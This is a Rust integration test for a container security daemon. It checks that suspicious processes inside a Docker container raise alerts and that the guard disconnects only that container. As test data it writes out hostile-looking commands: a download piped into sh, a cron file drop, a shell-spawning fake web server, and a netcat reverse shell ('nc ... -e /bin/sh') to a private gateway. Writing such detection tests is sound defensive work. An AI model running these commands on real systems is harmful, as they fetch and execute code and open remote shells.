//! The process monitor under the real daemon, on the real kernel, against a real dockerd
//! (`scripts/services.sh`; the busybox image built here `FROM scratch`): commands run in a
//! container (`sh -c` children, a write into its `/etc/cron.d`, a fake web server that spawns a
//! shell, a download piped to a shell, a connection to a mining pool port, a netcat reverse
//! shell) raise the library's process rules with that container as the alert's actor; the
//! container guard's policy disconnects exactly that container from its network, not its
//! neighbour; a benign busy workload in the neighbour (archives, compressions, file writes
//! outside the watched paths and under /etc) raises nothing. Needs root, BTF and dockerd.

#![allow(clippy::unwrap_used)]

mod common;

use common::docker::{Ctr, Net, docker_at, ensure_image, write_policy};
use common::{Daemon, actions_for, metric_sum, repo_root, run, text, wait_for};
use serde_json::Value;

/// Names unique to this test process.
fn tag(s: &str) -> String {
    format!("ipm{}-{s}", std::process::id())
}

fn all_alerts(d: &Daemon) -> Vec<Value> {
    let o = run(d
        .cli()
        .args(["alerts", "list", "--output", "json", "--limit", "1000"]));
    assert!(o.status.success(), "alerts list: {}", text(&o.stderr));
    serde_json::from_slice(&o.stdout).unwrap()
}

/// The alerts naming container `name` as their actor.
fn alerts_naming(d: &Daemon, name: &str) -> Vec<Value> {
    all_alerts(d)
        .into_iter()
        .filter(|a| a["entities"]["container"]["name"] == name)
        .collect()
}

/// Waits for an alert of `rule` naming container `name`.
fn wait_alert(d: &Daemon, rule: &str, name: &str) -> Value {
    wait_for(30, &format!("alert {rule} naming {name}"), || {
        alerts_naming(d, name)
            .into_iter()
            .find(|a| a["rule_id"] == rule)
    })
}

/// `docker exec NAME ARGS…`; the command's own exit status does not matter (a refused
/// connection fails), only that it ran.
fn exec(name: &str, args: &[&str]) {
    let mut v = vec!["exec", name];
    v.extend_from_slice(args);
    let o = docker_at(None, &v);
    assert!(
        !text(&o.stderr).contains("Error response from daemon"),
        "docker exec {args:?}: {}",
        text(&o.stderr)
    );
}

#[test]
fn container_processes_raise_rules_naming_it_and_the_guard_disconnects_only_it() {
    ensure_image();
    let prefix = tag("c");
    // A private subnet per test process (198.18.0.0/15 is ours); the gateway is this host.
    let subnet = format!("198.19.{}.0/24", 10 + std::process::id() % 80);
    let net = Net::create(&tag("net"), &subnet);
    let gateway = subnet.replace(".0/24", ".1");
    let actor = Ctr::run(None, &format!("{prefix}-actor"), &["--network", &net.0]);
    let neighbour = Ctr::run(None, &format!("{prefix}-neighbour"), &["--network", &net.0]);
    let (actor_id, neighbour_id) = (actor.id(), neighbour.id());

    let dir = tempfile::tempdir().unwrap();
    let policies = dir.path().join("policies");
    write_policy(
        &policies,
        "p.toml",
        &format!(
            r#"
[[policy]]
name = "cut_off_reverse_shells"
priority = 10
severity_threshold = "critical"
filters.container_names = ["{prefix}-*"]
action = "network_disconnect"
"#
        ),
    );
    let log = dir.path().join("empty.log");
    std::fs::write(&log, "").unwrap();
    let rules = repo_root().join("rules").display().to_string();
    let policy_dir = policies.display().to_string();
    let watch = format!("[\"{}\"]", log.display());
    let env = [
        ("IRONPOST_PROCESS_MONITOR_ENABLED", "true"),
        ("IRONPOST_LOG_PIPELINE_ENABLED", "true"),
        ("IRONPOST_LOG_PIPELINE_SOURCES", "[\"file\"]"),
        ("IRONPOST_LOG_PIPELINE_WATCH_PATHS", watch.as_str()),
        ("IRONPOST_LOG_PIPELINE_RULES_DIR", rules.as_str()),
        ("IRONPOST_CONTAINER_ENABLED", "true"),
        ("IRONPOST_CONTAINER_POLICY_PATH", policy_dir.as_str()),
        ("IRONPOST_CONTAINER_AUTO_ISOLATE", "true"),
        ("IRONPOST_CONTAINER_ACTION_TIMEOUT_SECS", "4"),
    ];
    let d = Daemon::start_in(dir, &["--defaults"], &env);
    wait_for(30, "process_monitor and container_guard healthy", || {
        let (_, body) = d.get("/health");
        let v: Value = serde_json::from_str(&body).ok()?;
        (v["modules"]["process_monitor"]["status"] == "healthy"
            && v["modules"]["container_guard"]["status"] == "healthy")
            .then_some(())
    });

    // A benign busy workload in the neighbour: archives, compression, writes outside the
    // watched paths, and a configuration file under /etc that is not cron's.
    exec(
        &neighbour.name,
        &[
            "sh",
            "-c",
            "i=0; while [ $i -lt 60 ]; do mkdir -p /tmp/build/$i; echo obj > /tmp/build/$i/main.o; \
             tar -cf /tmp/build/$i.tar /tmp/build/$i; gzip -f /tmp/build/$i.tar; \
             sed -e s/obj/lib/ /tmp/build/$i/main.o > /tmp/build/$i/lib.a; i=$((i+1)); done; \
             echo 'opt=1' > /etc/app.conf; find /tmp/build -name '*.gz' | wc -l",
        ],
    );

    // The actor: a cron job written into its /etc, a "web server" that spawns a shell, a
    // download piped into a shell, a connection to a mining pool port.
    exec(
        &actor.name,
        &["sh", "-c", "echo '* * * * * id' > /etc/cron.d/ipm-job"],
    );
    exec(
        &actor.name,
        &[
            "sh",
            "-c",
            "mkdir -p /usr/sbin && printf '#!/bin/sh\\nsh -c id\\necho served\\n' > /usr/sbin/nginx && chmod +x /usr/sbin/nginx",
        ],
    );
    exec(&actor.name, &["/usr/sbin/nginx"]);
    let fetch = format!("wget -q -T 1 -O- http://{gateway}:9/x | sh; true");
    exec(&actor.name, &["sh", "-c", &fetch]);
    exec(&actor.name, &["nc", "-w", "1", &gateway, "3333"]);

    let cron = wait_alert(&d, "cron_file_written", &actor.name);
    let web = wait_alert(&d, "proc_web_server_shell", &actor.name);
    let pipe = wait_alert(&d, "proc_download_pipe_shell", &actor.name);
    let pool = wait_alert(&d, "net_mining_pool_port", &actor.name);
    for (a, what) in [
        (&cron, "/etc/cron.d/ipm-job"),
        (&web, "(parent /usr/sbin/nginx)"),
        (&pipe, &fetch),
        (&pool, &format!("-> {gateway}:3333")),
    ] {
        assert_eq!(a["entities"]["container"]["id"], actor_id.as_str(), "{a}");
        assert_eq!(a["evidence"], "verified", "{a}");
        assert!(
            a["description"].as_str().unwrap_or("").contains(what),
            "{what} not in {a}"
        );
    }
    assert_eq!(pool["entities"]["dst_port"], 3333, "{pool}");
    // High alerts: the policy (critical) leaves the actor connected.
    assert_eq!(actor.networks().len(), 1, "{:?}", actor.networks());

    // A netcat reverse shell (critical): the guard disconnects the actor.
    let shell = format!("nc {gateway} 4444 -e /bin/sh");
    exec(&actor.name, &["sh", "-c", &shell]);
    let rev = wait_alert(&d, "proc_reverse_shell", &actor.name);
    assert_eq!(rev["entities"]["container"]["id"], actor_id.as_str());
    let id = rev["id"].as_str().unwrap().to_owned();
    let action = wait_for(30, "the guard's disconnect action", || {
        actions_for(&d, &id)
            .into_iter()
            .find(|a| a["outcome"] == "success")
    });
    assert_eq!(
        action["action_type"], "container_network_disconnect",
        "{action}"
    );
    wait_for(30, "the actor disconnected", || {
        actor.networks().is_empty().then_some(())
    });

    // The neighbour: untouched, and no alert names it.
    assert_eq!(neighbour.networks().len(), 1, "{:?}", neighbour.networks());
    assert_eq!(neighbour.status(), "running");
    let about_neighbour: Vec<Value> = all_alerts(&d)
        .into_iter()
        .filter(|a| {
            a["entities"]["container"]["id"] == neighbour_id.as_str()
                || a["entities"]["container"]["name"] == neighbour.name.as_str()
        })
        .collect();
    assert!(about_neighbour.is_empty(), "{about_neighbour:?}");

    let (_, metrics) = d.get("/metrics");
    assert!(
        metric_sum(&metrics, "ironpost_process_monitor_events_total") > 0,
        "{metrics}"
    );
    assert_eq!(
        metric_sum(&metrics, "ironpost_process_monitor_records_dropped_total"),
        0
    );
    drop(d);
    drop(actor);
    drop(neighbour);
    drop(net);
}
